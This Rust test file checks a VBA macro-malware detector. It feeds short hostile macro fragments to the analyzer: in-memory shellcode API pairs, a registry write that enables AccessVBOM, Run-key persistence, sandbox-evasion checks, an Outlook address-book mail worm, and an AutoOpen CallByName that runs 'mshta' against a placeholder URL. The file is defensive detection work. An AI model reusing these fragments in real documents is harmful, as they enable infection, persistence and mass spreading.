//! What code means to do besides the chain from opening to execution: each finding, and a near miss.

use super::analyze::SourceAnalyzer;
use crate::formats::trial;
use crate::model::Severity;
use crate::stage::Said;

fn lone(source: &str) -> Said {
    trial::analyze(&SourceAnalyzer, "a.bas", source.as_bytes())
}

fn severity(source: &str, id: &str) -> Option<Severity> {
    lone(source).findings.iter().find(|finding| finding.kind.id == id).map(|finding| finding.severity)
}

fn observed(source: &str, id: &str) -> String {
    let said = lone(source);
    said.findings.iter().find(|finding| finding.kind.id == id).map_or(String::new(), |f| f.observed.clone())
}

/// `Declare` lines for functions of a library.
fn declares(names: &[&str]) -> String {
    names
        .iter()
        .map(|name| format!("Declare Function {name} Lib \"harmless-none\" (ByVal a As Long) As Long\n"))
        .collect()
}

#[test]
fn memory_that_is_filled_and_run() {
    let body = |calls: &[&str]| {
        let lines: String = calls.iter().map(|name| format!("x = {name}(1)\n")).collect();
        format!("{}Sub AutoOpen()\n{lines}End Sub\n", declares(calls))
    };
    for pair in [
        ["VirtualAlloc", "CreateThread"],
        ["RtlMoveMemory", "EnumSystemLocalesA"],
        ["HeapCreate", "QueueUserAPC"],
        ["VirtualProtect", "SetTimer"],
    ] {
        assert_eq!(severity(&body(&pair), "vba-runs-memory"), Some(Severity::Critical), "{pair:?}");
    }
    for near in [["RtlMoveMemory", "SetTimer"], ["RtlMoveMemory", "CallWindowProcA"], ["VirtualAlloc", "Sleep"]] {
        assert_eq!(severity(&body(&near), "vba-runs-memory"), None, "{near:?}");
    }
    // Declared, never called.
    assert_eq!(severity(&declares(&["VirtualAlloc", "CreateThread"]), "vba-runs-memory"), None);
    let renamed = "Declare Function a Lib \"kernel32\" Alias \"VirtualAlloc\" ()\nDeclare Function b Lib \"kernel32\" Alias \"CreateThread\" ()\nSub x()\np = a(1)\nq = b(p)\nEnd Sub\n";
    assert_eq!(severity(renamed, "vba-runs-memory"), Some(Severity::High));
    assert_eq!(observed(renamed, "vba-runs-memory"), "a (virtualalloc) · b (createthread)");
}

#[test]
fn protection_that_is_turned_off() {
    let write = "Sub AutoOpen()\nSet s = CreateObject(\"WScript.Shell\")\ns.RegWrite \"HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\Access\" & \"VBOM\", 1, \"REG_DWORD\"\nEnd Sub\n";
    assert_eq!(severity(write, "vba-weakens-protection"), Some(Severity::High));
    assert_eq!(observed(write, "vba-weakens-protection"), "accessvbom");
    assert_eq!(severity("Sub A()\nMsgBox \"AccessVBOM\"\nEnd Sub\n", "vba-weakens-protection"), Some(Severity::Low));
    assert_eq!(
        severity(
            "Sub A()\nApplication.AutomationSecurity = msoAutomationSecurityLow\nEnd Sub\n",
            "vba-weakens-protection"
        ),
        Some(Severity::Medium)
    );
    let near = "Sub A()\nApplication.AutomationSecurity = msoAutomationSecurityForceDisable\n' AccessVBOM\nEnd Sub\n";
    assert_eq!(severity(near, "vba-weakens-protection"), None);
}

#[test]
fn what_starts_again() {
    let run = "Sub A()\nCreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x\", \"a.exe\"\nEnd Sub\n";
    assert_eq!(severity(run, "vba-persists"), Some(Severity::Medium));
    let read = "Sub A()\nMsgBox \"Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x\"\nEnd Sub\n";
    assert_eq!(severity(read, "vba-persists"), None);
}

#[test]
fn questions_about_the_machine() {
    let gate = "Sub AutoOpen()\nIf Application.RecentFiles.Count < 3 Then Exit Sub\nIf Environ(\"USERDOMAIN\") = \"\" Then End\nEnd Sub\n";
    assert_eq!(
        observed(gate, "vba-tests-environment"),
        "how many documents were opened before, the domain of the machine"
    );
    assert_eq!(severity(gate, "vba-tests-environment"), Some(Severity::Low));
    let more = gate.replace("End Sub\n", "If Not System.MouseAvailable Then End\nEnd Sub\n");
    let more = more.replacen("Then Exit End Sub", "Then Exit Sub", 1);
    assert!(severity(&more, "vba-tests-environment").is_some());
    for near in [
        "Sub AutoOpen()\nRange(\"A1\") = Application.UserName\nEnd Sub\n",
        "Sub Button()\nIf Application.UserName = \"x\" Then End\nEnd Sub\n",
    ] {
        assert_eq!(severity(near, "vba-tests-environment"), None, "{near}");
    }
}

#[test]
fn macros_that_change_macros() {
    let body = "Set c = ActiveDocument.VBProject.VBComponents(1).CodeModule\nc.InsertLines 1, \"x\"\nEnd Sub\n";
    assert_eq!(severity(&format!("Sub AutoOpen()\n{body}"), "vba-changes-macros"), Some(Severity::Medium));
    assert_eq!(severity(&format!("Sub Tool()\n{body}"), "vba-changes-macros"), Some(Severity::Low));
    assert_eq!(severity("Sub AutoOpen()\nvbproject = 1\nx.Lines 1\nEnd Sub\n", "vba-changes-macros"), None);
}

#[test]
fn mail_that_is_sent() {
    let mail = "Set o = CreateObject(\"Outlook.Application\")\nSet m = o.CreateItem(0)\nm.Send\n";
    let worm = format!("Sub AutoOpen()\n{mail}For Each a In o.Session.AddressLists(1).AddressEntries\nNext\nEnd Sub\n");
    assert_eq!(severity(&worm, "vba-sends-mail"), Some(Severity::High));
    assert_eq!(severity(&format!("Sub Submit()\n{mail}End Sub\n"), "vba-sends-mail"), Some(Severity::Info));
    assert_eq!(severity(&format!("Sub AutoOpen()\n{mail}End Sub\n"), "vba-sends-mail"), Some(Severity::Low));
    assert_eq!(
        severity(
            "Sub AutoOpen()\nSet o = CreateObject(\"Outlook.Application\")\no.Display\nEnd Sub\n",
            "vba-sends-mail"
        ),
        None
    );
}

#[test]
fn files_that_are_deleted() {
    assert_eq!(severity("Sub AutoClose()\nKill \"a.tmp\"\nEnd Sub\n", "vba-deletes-files"), Some(Severity::Low));
    assert_eq!(severity("Sub Tidy()\nKill \"a.tmp\"\nEnd Sub\n", "vba-deletes-files"), Some(Severity::Info));
    assert_eq!(severity("Sub AutoClose()\nKill = 1\nEnd Sub\n", "vba-deletes-files"), None);
}

#[test]
fn what_is_run_stands_in_the_document() {
    for source in [
        "Shell UserForm1.Label1.Caption, 0",
        "x = ThisDocument.Variables(\"a\").Value\nShell x & \" /c\", 0",
        "CreateObject(UserForm1.TextBox1.Tag).Foo",
        "CreateObject(\"WScript.Shell\").Run ActiveDocument.BuiltInDocumentProperties(\"Comments\")",
    ] {
        let source = format!("Sub AutoOpen()\n{source}\nEnd Sub\n");
        assert_eq!(severity(&source, "vba-runs-document-text"), Some(Severity::High), "{source}");
    }
    assert_eq!(
        observed("Sub AutoOpen()\nShell UserForm1.Label1.Caption, 0\nEnd Sub\n", "vba-runs-document-text"),
        "Shell UserForm1.Label1.Caption in AutoOpen"
    );
    for near in
        ["Shell \"tool.exe\", 0\nLabel1.Caption = \"x\"", "MsgBox UserForm1.Label1.Caption", "Shell Range(\"A1\")"]
    {
        assert_eq!(severity(&format!("Sub AutoOpen()\n{near}\nEnd Sub\n"), "vba-runs-document-text"), None, "{near}");
    }
}

#[test]
fn a_chain_that_waits_for_a_person() {
    let body = "CreateObject(\"MSXML2.XMLHTTP\").send\nCreateObject(\"WScript.Shell\").Run \"a.exe\"\nEnd Sub\n";
    assert_eq!(severity(&format!("Sub Show_Click()\n{body}"), "vba-click-to-execute"), Some(Severity::High));
    let write = "Open \"a.exe\" For Output As #1\nShell \"a.exe\"\nEnd Sub\n";
    assert_eq!(severity(&format!("Sub Show_Click()\n{write}"), "vba-click-to-execute"), Some(Severity::Medium));
    assert_eq!(severity(&format!("Sub FileSave()\n{body}"), "vba-click-to-execute"), Some(Severity::High));
    assert_eq!(severity(&format!("Sub Tool()\n{body}"), "vba-click-to-execute"), None);
    assert_eq!(severity("Sub Show_Click()\nShell \"a.exe\"\nEnd Sub\n", "vba-click-to-execute"), None);
}

#[test]
fn members_asked_by_name() {
    let said = lone(
        "Sub AutoOpen()\nSet s = CreateObject(\"WScript.Shell\")\nCallByName s, \"Ru\" & \"n\", 1, \"mshta http://example.com/a\"\nEnd Sub\n",
    );
    assert!(said.findings.iter().any(|finding| finding.kind.id == "vba-open-to-execute"));
    let said =
        lone("Sub AutoOpen()\nSet s = CreateObject(\"WScript.Shell\")\nCallByName s, \"Popup\", 1, \"x\"\nEnd Sub\n");
    assert!(said.findings.iter().all(|finding| finding.kind.id != "vba-starts-process"));
    // Excel's own function, asked through the application.
    let said = lone("Sub AutoOpen()\nApplication.ExecuteExcel4Macro \"EXEC(\"\"a\"\")\"\nEnd Sub\n");
    assert!(said.findings.iter().any(|finding| finding.kind.id == "vba-open-starts-process"));
}

#[test]
fn events_that_code_raises_are_followed() {
    let source = "Event Done()\nSub AutoOpen()\nRaiseEvent Done\nEnd Sub\nSub o_Done()\nShell \"a.exe\"\nEnd Sub\n";
    assert!(severity(source, "vba-open-starts-process").is_some());
    assert!(severity(&source.replace("RaiseEvent Done", "RaiseEvent Gone"), "vba-open-starts-process").is_none());
}
